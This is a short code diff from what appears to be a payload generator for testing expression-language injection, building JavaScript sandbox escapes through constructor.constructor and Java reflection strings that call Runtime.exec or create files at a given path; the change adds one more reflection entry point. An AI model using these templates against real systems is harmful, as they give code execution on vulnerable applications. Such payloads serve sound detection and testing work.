@@ -61,7 +61,7 @@ def from_values(path: str) -> list[str]:
     # A context that shares nothing still gives the refusal of an import, which comes from outside.
     rest = f".constructor.constructor('return process')().getBuiltinModule('fs').mkdirSync('{path}')"
     out += [f"import('fs').catch(error => error{rest}).catch(() => 1) && 1"]
-    for value in ("age.getClass()", "''.class", "#this.getClass()", "#root.class", "age.class"):
+    for value in ("age.getClass()", "''.class", "#this.getClass()", "#root.class", "age.class", "age.TYPE"):
         out += [f"{value}.forName('java.io.File').getConstructor(''.getClass()).newInstance('{path}').createNewFile() ? 1 : 2"]
         out += [f"{value}.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('mkdir {path}').waitFor()"]
     return out
